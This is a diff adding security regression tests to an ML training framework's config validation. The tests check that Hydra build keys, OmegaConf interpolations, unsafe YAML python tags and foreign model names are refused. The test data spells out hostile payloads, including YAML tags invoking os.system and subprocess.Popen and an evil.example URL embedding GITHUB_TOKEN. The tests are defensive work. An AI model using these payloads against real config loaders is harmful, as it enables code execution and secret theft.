@@ -8,17 +8,21 @@ import sys
 from collections.abc import Callable, Iterator
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import lightning.pytorch
 import pytest
 import torch
 import yaml
+from omegaconf import OmegaConf
 
 import opsin
-from opsin.config import CONFIGS, compose, from_saved
+from opsin.config import CONFIGS, ConfigSource, compose, from_saved
+from opsin.config.run_config import plain
 from opsin.config.signatures import signature_model
 from opsin.config.validation import check
 from opsin.errors import UserError
+from opsin.models.weights import known_weights
 from opsin.runs.directory import RunDirectory
 from opsin.sweeps.sweep import SCHEMA as SWEEP_SCHEMA
 from opsin.training.plan import SCHEMA as RUN_SCHEMA
@@ -88,6 +92,7 @@ def every_name() -> set[str]:
     return names
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("section", SECTIONS)
 def test_every_other_name_of_the_libraries_is_refused_without_an_import(
     section: str, every_name: set[str], monkeypatch: pytest.MonkeyPatch
@@ -236,6 +241,90 @@ def test_a_target_inside_a_value_is_refused(path: str, value: object) -> None:
         check(tree, RUN_SCHEMA)
 
 
+WORDS = ("_args_", "_partial_", "_convert_", "_recursive_", "_mode_", "_self_", "()")
+
+
+@pytest.mark.parametrize("section", [*SECTIONS, "trainer", "loss", "feature_cache"])
+def test_words_with_which_hydra_builds_objects_are_keys_like_any_other(section: str) -> None:
+    tree = {**compose([]).tree, "sweep": {}, "launcher": {"_target_": "opsin.sweeps.launchers.Local"}}
+    values = next(iter(tree[section].values())) if SCHEMA[section].many else tree[section]
+    values |= {key: ["touch victim"] for key in WORDS}
+    with pytest.raises(UserError) as error:
+        check(tree, SCHEMA)
+    assert all(f"{word} is not known" in str(error.value) for word in WORDS)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "${oc.env:EVIL}",
+        "${oc.decode:${oc.env:EVIL}}",
+        "${oc.select:nothing,os.system}",
+        "${oc.create:os.system}",
+        "${oc.deprecated:tags.0}",
+        "${tags.0}",
+        "${oc.dict.values:callbacks}",
+    ],
+)
+def test_an_interpolation_gives_no_other_target(text: str, monkeypatch: pytest.MonkeyPatch, digits_run: Any) -> None:
+    monkeypatch.setenv("EVIL", "os.system")
+    config = OmegaConf.create(digits_run.config.read_text())
+    config.tags, config.callbacks = ["os.system"], {"checkpoints": config.callbacks.checkpoints}
+    config.model._target_ = text
+    with pytest.raises(UserError, match=r"is not accepted here|must be the dotted name|cannot be resolved"):
+        check(plain(config), RUN_SCHEMA)
+
+
+TAGS = (
+    "!!python/object/apply:os.system ['touch victim']",
+    "!!python/object/new:os.system ['touch victim']",
+    "!!python/name:os.system",
+    "!!python/module:antigravity",
+    "!!python/object:subprocess.Popen {}",
+)
+
+
+@pytest.mark.parametrize("tag", TAGS)
+def test_a_tag_of_yaml_makes_no_object(tag: str, in_tmp: Path, digits_run: RunDirectory) -> None:
+    (in_tmp / "experiment").mkdir()
+    (in_tmp / "experiment" / "theirs.yaml").write_text(f"# @package _global_\ntags: {tag}\n")
+    with pytest.raises(UserError, match="could not determine a constructor"):
+        compose(["experiment=theirs"], source=ConfigSource.of([str(in_tmp)]))
+    run = RunDirectory(in_tmp / "run")
+    run.path.mkdir()
+    for file in (run.config, run.overrides):
+        run.config.write_text(digits_run.config.read_text())
+        file.write_text(f"tags: {tag}\n")
+        with pytest.raises(UserError, match=f"{file.name} is damaged"):
+            from_saved(run)
+    assert not (in_tmp / "victim").exists()
+
+
+@pytest.mark.parametrize(
+    "name", ["hf-hub:evil/model", "hf_hub:evil/model", "local-dir:/tmp/evil", "../evil", "resnet*"]
+)
+def test_timm_loads_networks_of_its_own_list_only(name: str) -> None:
+    with pytest.raises(UserError, match="timm has no network"):
+        NETWORKS.resolve("opsin.models.timm")(num_logits=2, image_size=(32, 32), name=name)
+    with pytest.raises(UserError, match="timm has no network"):
+        known_weights("timm", name=name, image_size=(32, 32))
+
+
+def test_a_foreign_run_sends_no_secret(digits_run: RunDirectory, in_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "a very secret value")
+    tree = yaml.safe_load(digits_run.config.read_text())
+    options = {"endpoint_url": "http://evil.example/${oc.env:GITHUB_TOKEN}"}
+    run = RunDirectory(in_tmp / "run")
+    shutil.copytree(digits_run.path, run.path)
+    for section, values in (
+        ("datamodule", {"_target_": "opsin.data.datasets.shards", "path": "s3://x", "storage_options": options}),
+        ("callbacks", {**tree["callbacks"], "x": {"_target_": "opsin.training.callbacks.Pruning", "storage": options}}),
+    ):
+        run.config.write_text(yaml.safe_dump({**tree, section: values}))
+        with pytest.raises(UserError, match=rf"{section}\S+: the name of this variable marks a secret"):
+            evaluate(run)
+
+
 def resume(run: RunDirectory) -> None:
     from opsin.commands.train import train
 
@@ -297,6 +386,7 @@ def contents(folder: Path) -> dict[Path, bytes]:
     return {file: file.read_bytes() for file in sorted(folder.rglob("*")) if file.is_file()}
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("command", "section"),
     [
